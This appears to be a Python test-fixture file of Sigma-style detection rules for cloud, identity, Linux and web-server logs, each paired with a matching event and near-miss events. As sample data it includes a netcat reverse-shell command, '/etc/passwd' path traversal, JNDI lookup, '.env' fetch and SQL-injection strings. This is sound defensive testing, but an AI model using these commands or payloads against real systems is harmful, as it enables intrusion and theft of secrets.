"""Rules in the manner of the community's, for the raw records of many products, with an event that each finds.

Written for these tests: a log source, the detection's selections and condition, fields of an event as the product's
profile makes it, and changes of it (None: without the field) with which the rule must be quiet.
"""

from typing import Any, Final, NamedTuple


class Case(NamedTuple):
    """A rule's parts, an event that it matches, and what makes a near miss of that event."""

    name: str
    source: str
    detection: str
    event: dict[str, Any]
    misses: list[dict[str, Any]]


#: Profile -> what it says of its log source.
PROFILES: Final = {
    "cloudtrail": "{product: aws, service: cloudtrail}",
    "okta": "{product: okta, service: okta}",
    "github-audit": "{product: github, service: audit}",
    "gcp-audit": "{product: gcp, service: gcp.audit}",
    "google-workspace": "{product: gcp, service: google_workspace.admin}",
    "azure-activity": "{product: azure, service: activitylogs}",
    "azure-audit": "{product: azure, service: auditlogs}",
    "azure-signin": "{product: azure, service: signinlogs}",
    "microsoft365": "{product: m365, service: audit}",
    "kubernetes-audit": "{product: kubernetes, category: application, service: audit}",
    "bitbucket": "{product: bitbucket, service: audit}",
    "auditd": "{product: linux, service: auditd}",
    "sshd": "{product: linux, service: sshd}",
    "sudo": "{product: linux, service: sudo}",
    "pam": "{product: linux, service: auth}",
    "cron": "{product: linux, service: cron}",
    "syslog": "",
    "nginx": "",
    "apache": "{category: webserver, product: apache}",
    "haproxy": "{category: proxy, product: haproxy}",
}


def _(name: str, source: str, detection: str, event: dict[str, Any], *misses: dict[str, Any]) -> Case:
    return Case(name, source, detection, event, list(misses))


CASES: Final = [
    _(
        "aws: a trail is stopped",
        "product: aws, service: cloudtrail",
        "{selection: {eventSource: cloudtrail.amazonaws.com, eventName: [StopLogging, DeleteTrail]},"
        " condition: selection}",
        {"origin.profile": "cloudtrail", "event_type": "StopLogging", "module": "cloudtrail.amazonaws.com"},
        {"event_type": "StartLogging"},
        {"module": "s3.amazonaws.com"},
        {"origin.profile": "jsonl"},
        {"event_type": None},
    ),
    _(
        "aws: root is used",
        "product: aws, service: cloudtrail",
        "{selection: {userIdentity.type: Root}, filter: {eventType: AwsServiceEvent},"
        " condition: selection and not filter}",
        {"origin.profile": "cloudtrail", "details": {"userIdentity": {"type": "Root"}, "eventType": "AwsApiCall"}},
        {"details": {"userIdentity": {"type": "IAMUser"}}},
        {"details": {"userIdentity": {"type": "Root"}, "eventType": "AwsServiceEvent"}},
    ),
    _(
        "aws: an ARN that is the actor's",
        "product: aws, service: cloudtrail",
        "{selection: {userIdentity.arn|contains: ':assumed-role/AWSReservedSSO', errorCode: AccessDenied},"
        " condition: selection}",
        {
            "origin.profile": "cloudtrail",
            "actor.id": "arn:aws:sts::1:assumed-role/AWSReservedSSO_A/al",
            "reason": "AccessDenied",
        },
        {"actor.id": "arn:aws:iam::1:user/al"},
        {"reason": None},
    ),
    _(
        "aws: no error",
        "product: aws, service: cloudtrail",
        "{selection: {eventName: ConsoleLogin, errorCode: null, additionalEventData.MFAUsed: 'No'},"
        " condition: selection}",
        {
            "origin.profile": "cloudtrail",
            "event_type": "ConsoleLogin",
            "details": {"additionalEventData": {"MFAUsed": "No"}},
        },
        {"reason": "Failed authentication"},
        {"details": {"additionalEventData": {"MFAUsed": "Yes"}}},
    ),
    _(
        "aws: inside a request",
        "product: aws, service: cloudtrail",
        "{selection: {eventName|startswith: Put, requestParameters.policyArn|endswith: /AdministratorAccess},"
        " condition: selection}",
        {
            "origin.profile": "cloudtrail",
            "event_type": "PutUserPolicy",
            "details": {"requestParameters": {"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}},
        },
        {"details": {"requestParameters": {"policyArn": "arn:aws:iam::aws:policy/ReadOnly"}}},
        {"details": None},
    ),
    _(
        "okta: a policy is removed",
        "product: okta, service: okta",
        "{selection: {eventType: [policy.lifecycle.delete, policy.lifecycle.deactivate]}, condition: selection}",
        {"origin.profile": "okta", "event_type": "policy.lifecycle.delete"},
        {"event_type": "policy.lifecycle.create"},
    ),
    _(
        "okta: names in lower case",
        "product: okta, service: okta",
        "{selection: {eventtype: user.mfa.factor.deactivate, outcome.result: SUCCESS}, condition: selection}",
        {"origin.profile": "okta", "event_type": "user.mfa.factor.deactivate", "outcome": "success"},
        {"outcome": "failure"},
    ),
    _(
        "okta: refused",
        "product: okta, service: okta",
        "{selection: {outcome.result|contains: DENY}, other: {actor.alternateId|endswith: '@example.com'},"
        " condition: selection and not other}",
        {"origin.profile": "okta", "outcome": "failure", "actor.id": "eve@evil.example"},
        {"outcome": "success"},
        {"actor.id": "eve@example.com"},
    ),
    _(
        "okta: behaviours in the debug data",
        "product: okta, service: okta",
        "{selection: {debugContext.debugData.behaviors|contains: POSITIVE}, condition: selection}",
        {"origin.profile": "okta", "details": {"debugContext": {"debugData": {"behaviors": "{New IP=POSITIVE}"}}}},
        {"details": {"debugContext": {"debugData": {"behaviors": "{New IP=NEGATIVE}"}}}},
    ),
    _(
        "github: its action is our event type",
        "product: github, service: audit",
        "{selection: {action: [repo.destroy, org.disable_two_factor_requirement]}, condition: selection}",
        {"origin.profile": "github-audit", "event_type": "repo.destroy", "action": "delete"},
        {"event_type": "repo.create"},
    ),
    _(
        "github: an actor that is a bot",
        "product: github, service: audit",
        "{selection: {action|startswith: 'protected_branch.'}, bot: {actor|endswith: '[bot]'},"
        " condition: selection and not bot}",
        {"origin.profile": "github-audit", "event_type": "protected_branch.destroy", "actor.id": "eve"},
        {"actor.id": "renovate[bot]"},
        {"event_type": "repo.add_topic"},
    ),
    _(
        "gcp: Sigma's own names",
        "product: gcp, service: gcp.audit",
        "{selection: {gcp.audit.method_name|endswith: ['.delete', '.DeleteBucket']}, condition: selection}",
        {"origin.profile": "gcp-audit", "event_type": "storage.buckets.delete"},
        {"event_type": "storage.buckets.get"},
    ),
    _(
        "gcp: the record's names",
        "product: gcp, service: gcp.audit",
        "{selection: {data.protoPayload.serviceName: container.googleapis.com, "
        " data.protoPayload.methodName|re: '.*secrets.*'},"
        " condition: selection}",
        {
            "origin.profile": "gcp-audit",
            "module": "container.googleapis.com",
            "event_type": "io.k8s.core.v1.secrets.get",
        },
        {"event_type": "io.k8s.core.v1.pods.get"},
    ),
    _(
        "workspace: a setting",
        "product: gcp, service: google_workspace.admin",
        "{selection: {eventService: admin.googleapis.com, eventName: CHANGE_APPLICATION_SETTING, new_value: 'false'},"
        " condition: selection}",
        {
            "origin.profile": "google-workspace",
            "module": "admin",
            "event_type": "CHANGE_APPLICATION_SETTING",
            "changes": [{"field": "x", "old": "true", "new": "false"}],
        },
        {"changes": [{"field": "x", "old": "false", "new": "true"}]},
    ),
    _(
        "azure: activity",
        "product: azure, service: activitylogs",
        "{selection: {operationName|startswith: 'MICROSOFT.AUTHORIZATION/POLICY', status: Success},"
        " condition: selection}",
        {
            "origin.profile": "azure-activity",
            "event_type": "Microsoft.Authorization/policyAssignments/delete",
            "outcome": "success",
        },
        {"outcome": "failure"},
        {"event_type": "Microsoft.Compute/x/write"},
    ),
    _(
        "azure: an old word for the operation",
        "product: azure, service: activitylogs",
        "{selection: {properties.message: MICROSOFT.KEYVAULT/VAULTS/DELETE}, condition: selection}",
        {"origin.profile": "azure-activity", "event_type": "MICROSOFT.KEYVAULT/VAULTS/DELETE"},
        {"event_type": "x"},
    ),
    _(
        "azure: audit",
        "product: azure, service: auditlogs",
        "{selection: {properties.message|contains: 'Add member to role'}, condition: selection}",
        {"origin.profile": "azure-audit", "event_type": "Add member to role outside of PIM"},
        {"event_type": "Update user"},
    ),
    _(
        "azure: pim is served by the audit log",
        "product: azure, service: pim",
        "{selection: {TargetResources.displayName: 'Global Administrator'}, condition: selection}",
        {"origin.profile": "azure-audit", "resource.name": "Global Administrator"},
        {"resource.name": "Reader"},
    ),
    _(
        "azure: sign-ins by number",
        "product: azure, service: signinlogs",
        "{selection: {ResultType: [50053, '50126']}, condition: selection}",
        {"origin.profile": "azure-signin", "details": {"resultType": "50053"}},
        {"details": {"resultType": "0"}},
        {"origin.profile": "azure-audit"},
    ),
    _(
        "azure: sign-ins by word",
        "product: azure, service: signinlogs",
        "{selection: {Status: Success, ClientApp|contains: ['IMAP', 'POP']}, condition: selection}",
        {"origin.profile": "azure-signin", "outcome": "success", "details": {"properties": {"clientAppUsed": "IMAP4"}}},
        {"outcome": "failure"},
        {"details": {"properties": {"clientAppUsed": "Browser"}}},
    ),
    _(
        "m365",
        "product: m365, service: exchange",
        "{selection: {eventSource: Exchange, Operation: [New-InboxRule, Set-InboxRule]}, condition: selection}",
        {"origin.profile": "microsoft365", "module": "Exchange", "event_type": "New-InboxRule"},
        {"event_type": "MailItemsAccessed"},
    ),
    _(
        "kubernetes: exec into a pod",
        "product: kubernetes, service: audit",
        "{selection: {verb: create, objectRef.resource: pods, objectRef.subresource: exec}, condition: selection}",
        {
            "origin.profile": "kubernetes-audit",
            "details": {"verb": "create", "objectRef": {"resource": "pods", "subresource": "exec"}},
        },
        {"details": {"verb": "create", "objectRef": {"resource": "pods"}}},
    ),
    _(
        "kubernetes: by category",
        "product: kubernetes, category: application, service: audit",
        "{selection: {user.username|startswith: 'system:serviceaccount:', responseStatus.code: 403},"
        " condition: selection}",
        {
            "origin.profile": "kubernetes-audit",
            "actor.id": "system:serviceaccount:a:b",
            "details": {"responseStatus": {"code": 403}},
        },
        {"actor.id": "alice"},
        {"details": {"responseStatus": {"code": 200}}},
    ),
    _(
        "bitbucket",
        "product: bitbucket, service: audit",
        "{selection: {auditType.category: Repositories, auditType.action: 'Repository deleted'}, condition: selection}",
        {"origin.profile": "bitbucket", "module": "Repositories", "event_type": "Repository deleted"},
        {"module": "Users"},
    ),
    _(
        "auditd: a command of several records",
        "product: linux, service: auditd",
        "{selection: {type: EXECVE, a0: chattr, a1|contains: i}, condition: selection}",
        {
            "origin.profile": "auditd",
            "event_type": "SYSCALL",
            "details": {"a0": "55d1", "records": [{"type": "EXECVE", "a0": "chattr", "a1": "-i"}, {"type": "CWD"}]},
        },
        {"details": {"records": [{"type": "EXECVE", "a0": "ls", "a1": "-i"}]}},
    ),
    _(
        "auditd: a path",
        "product: linux, service: auditd",
        "{selection: {type: PATH, name|startswith: /etc/}, by: {exe|endswith: /dpkg}, condition: selection and not by}",
        {
            "origin.profile": "auditd",
            "event_type": "SYSCALL",
            "details": {"exe": "/usr/bin/vi", "records": [{"type": "PATH", "name": "/etc/shadow"}]},
        },
        {"details": {"exe": "/usr/bin/dpkg", "records": [{"type": "PATH", "name": "/etc/shadow"}]}},
    ),
    _(
        "auditd: outcome in its words",
        "product: linux, service: auditd",
        "{selection: {type: USER_LOGIN, res: failed}, condition: selection}",
        {"origin.profile": "auditd", "event_type": "USER_LOGIN", "outcome": "failure"},
        {"outcome": "success"},
    ),
    _(
        "sshd: keywords",
        "product: linux, service: sshd",
        "{keywords: ['*maximum authentication attempts*', 'Corrupted MAC on input'], condition: keywords}",
        {"origin.profile": "sshd", "message": "error: maximum authentication attempts exceeded for root"},
        {"message": "Accepted publickey"},
        {"origin.profile": "nginx"},
    ),
    _(
        "sshd writes to the auth log",
        "product: linux, service: auth",
        "{keywords: [bad guess, Invalid user], condition: keywords}",
        {"origin.profile": "sshd", "reason": "Invalid user eve"},
        {"reason": "x"},
    ),
    _(
        "sudo: whose rights",
        "product: linux, service: sudo",
        "{selection: {USER: ['#-*', '#*4294967295']}, condition: selection}",
        {"origin.profile": "sudo", "actor.on_behalf_of": "#-1"},
        {"actor.on_behalf_of": "root"},
    ),
    _(
        "all of them, one of those",
        "product: linux",
        "{a_1: {COMMAND|contains|all: [nc, '-e']}, a_2: {COMMAND|contains: /dev/tcp/}, off: {COMMAND|startswith: test},"
        " condition: 1 of a_* and not off}",
        {"origin.profile": "sudo", "resource.id": "/bin/nc -e /bin/sh 1.2.3.4"},
        {"resource.id": "/bin/nc -l"},
        {"resource.id": "test nc -e"},
    ),
    _(
        "web: a query",
        "category: webserver",
        "{selection: {cs-method: GET, cs-uri-query|contains: ['../../', 'jndi:']}, done: {sc-status: 404},"
        " condition: selection and not done}",
        {"origin.profile": "nginx", "event_type": "GET", "details": {"query": "f=../../etc/passwd", "status": 200}},
        {"details": {"query": "f=../../etc/passwd", "status": 404}},
        {"event_type": "POST"},
    ),
    _(
        "web: a product of its own",
        "category: webserver, product: apache",
        "{selection: {cs-uri-stem|endswith: '/.env', cs-user-agent|startswith: curl}, condition: selection}",
        {"origin.profile": "apache", "resource.id": "shop/.env", "source.user_agent": "curl/8"},
        {"origin.profile": "nginx"},
    ),
    _(
        "proxy: an agent",
        "category: proxy",
        "{selection: {c-useragent|re: '^(?:sqlmap|Nikto)/[0-9]'}, condition: selection}",
        {"origin.profile": "haproxy", "source.user_agent": "sqlmap/1.8"},
        {"source.user_agent": "my sqlmap/1"},
    ),
    _(
        "web: keywords",
        "category: webserver",
        "{keywords: ['=select ', 'UNION ALL'], condition: keywords}",
        {"origin.profile": "apache", "details": {"query": "id=1 union all select"}},
        {"details": {"query": "id=1"}},
    ),
]
